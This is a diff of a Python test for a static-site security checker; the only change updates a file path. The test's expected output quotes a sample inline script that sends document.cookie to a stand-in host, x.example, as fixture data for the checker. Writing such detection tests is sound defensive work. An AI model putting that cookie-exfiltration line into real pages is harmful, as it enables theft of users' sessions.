@@ -71,7 +71,7 @@ def test_every_unsafe_construct_in_every_page_is_reported_at_once(tmp_path: Path
         f"{site}/a/index.html:9:1: inline script is not on the allow-list: 'fetch('https://x.example/?c=' + "
         "document.cookie)'; if it is the theme's own after an upgrade, review it and add "
         f"'{digest}' "
-        "to THEME_INLINE_SCRIPTS in generator/sitecheck.py",
+        "to THEME_INLINE_SCRIPTS in generator/postbuild/sitecheck.py",
         f"{site}/a/index.html:10:1: 'javascript:' URL in the 'href' attribute of <a>",
         f"{site}/a/index.html:10:38: 'onclick' event-handler attribute on <button>; {HANDLER}",
         f"{site}/a/index.html:11:1: <iframe> is not allowed in the built site",
